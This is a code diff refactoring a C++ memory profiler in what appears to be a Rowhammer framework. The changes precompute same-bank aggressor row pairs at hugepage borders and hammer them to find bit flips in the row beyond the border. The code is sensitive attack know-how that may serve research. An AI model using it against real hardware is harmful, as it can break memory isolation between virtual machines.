@@ -72,13 +72,33 @@ MemoryProfiler::MemoryProfiler(vm::VirtualMachine &machine,
     }
     HH_ASSERT(cfg.exploitHiBit > cfg.exploitLoBit);
     HH_ASSERT(cfg.exploitHiBit < 64);
+
+    if (cfg.bankFunctionKnown) {
+        // One same-bank pair per bank label: the pair activates two
+        // adjacent rows, disturbing the row beyond the border. Bank
+        // labels are computed from the low 21 bits only; the unknown
+        // upper bits add a constant XOR that cancels when comparing
+        // two addresses in the same hugepage, so every hugepage uses
+        // the same offsets.
+        const dram::AddressMapping &map = this->mapping;
+        for (bool top : {false, true}) {
+            const unsigned r0 = firstBorderRow(top);
+            for (dram::BankId label = 0; label < map.bankCount(); ++label) {
+                knownPairOffsets[top].push_back(
+                    {map.bankRowAddress(label, r0).value(),
+                     map.bankRowAddress(label, r0 + 1).value()});
+            }
+        }
+    }
 }
 
 unsigned
-MemoryProfiler::localRows() const
+MemoryProfiler::firstBorderRow(bool top_border) const
 {
-    return static_cast<unsigned>(kHugePageSize
-                                 / mapping.rowStripeBytes());
+    const unsigned rows = static_cast<unsigned>(
+        kHugePageSize / mapping.rowStripeBytes());
+    HH_ASSERT(rows >= 2);
+    return top_border ? rows - 2 : 0;
 }
 
 void
@@ -95,62 +115,47 @@ MemoryProfiler::buildReverseIndex(
     }
 }
 
-GuestPhysAddr
-MemoryProfiler::rowBankAddress(GuestPhysAddr huge_page,
-                               unsigned local_row,
-                               dram::BankId label) const
-{
-    // Bank labels are computed from the low 21 bits only; the unknown
-    // upper bits add a constant XOR that cancels when comparing two
-    // addresses in the same hugepage.
-    const uint64_t stripe = mapping.rowStripeBytes();
-    const uint64_t granule = 1ull << mapping.interleaveShift();
-    const uint64_t row_base = local_row * stripe;
-    for (uint64_t off = 0; off < stripe; off += granule) {
-        const HostPhysAddr pseudo(row_base + off);
-        if (mapping.bankOf(pseudo) == label)
-            return huge_page + row_base + off;
-    }
-    base::panic("no address with bank label %u in local row %u", label,
-                local_row);
-}
-
 std::vector<std::vector<GuestPhysAddr>>
 MemoryProfiler::aggressorCandidates(GuestPhysAddr huge_page,
                                     bool top_border) const
 {
     std::vector<std::vector<GuestPhysAddr>> candidates;
-    const unsigned rows = localRows();
-    HH_ASSERT(rows >= 2);
-    const unsigned r0 = top_border ? rows - 2 : 0;
-    const unsigned r1 = r0 + 1;
+    fillCandidates(huge_page, top_border, candidates);
+    return candidates;
+}
 
+void
+MemoryProfiler::fillCandidates(
+    GuestPhysAddr huge_page, bool top_border,
+    std::vector<std::vector<GuestPhysAddr>> &candidates) const
+{
     if (cfg.bankFunctionKnown) {
-        // One same-bank pair per bank label: the pair activates two
-        // adjacent rows, disturbing the row beyond the border.
-        for (dram::BankId label = 0; label < mapping.bankCount();
-             ++label) {
-            candidates.push_back({rowBankAddress(huge_page, r0, label),
-                                  rowBankAddress(huge_page, r1, label)});
+        const auto &offsets = knownPairOffsets[top_border];
+        candidates.resize(offsets.size());
+        for (size_t i = 0; i < offsets.size(); ++i) {
+            candidates[i].assign(
+                {huge_page + offsets[i][0], huge_page + offsets[i][1]});
         }
-        return candidates;
+        return;
     }
 
     // Brute force: all page pairs across the two border rows. Only
     // the (unknown) same-bank pairs can produce flips, so this is
     // slower by roughly pages-per-row squared over banks.
+    candidates.clear();
+    const unsigned r0 = firstBorderRow(top_border);
+    const unsigned r1 = r0 + 1;
     const uint64_t stripe = mapping.rowStripeBytes();
     const uint64_t pages_per_row = stripe / kPageSize;
     for (uint64_t p0 = 0; p0 < pages_per_row; ++p0) {
         for (uint64_t p1 = 0; p1 < pages_per_row; ++p1) {
             if (candidates.size() >= cfg.bruteForcePairCap)
-                return candidates;
+                return;
             candidates.push_back(
                 {huge_page + r0 * stripe + p0 * kPageSize,
                  huge_page + r1 * stripe + p1 * kPageSize});
         }
     }
-    return candidates;
 }
 
 void
@@ -247,6 +252,9 @@ MemoryProfiler::profile(const std::vector<GuestPhysAddr> &region)
     // 1->0 flips need memory full of ones; 0->1 needs zeros.
     const uint64_t patterns[2] = {~0ull, 0ull};
 
+    // Refilled per hugepage border; reusing it keeps the profile
+    // loop allocation-free on the known-bank-function path.
+    std::vector<std::vector<GuestPhysAddr>> candidates;
     bool done = false;
     for (uint64_t fill : patterns) {
         if (done)
@@ -260,7 +268,8 @@ MemoryProfiler::profile(const std::vector<GuestPhysAddr> &region)
             for (bool top : {false, true}) {
                 if (done)
                     break;
-                for (const auto &pair : aggressorCandidates(hp, top)) {
+                fillCandidates(hp, top, candidates);
+                for (const auto &pair : candidates) {
                     auto events =
                         machine.hammerCollect(pair, cfg.hammerRounds);
                     ++result.combinations;
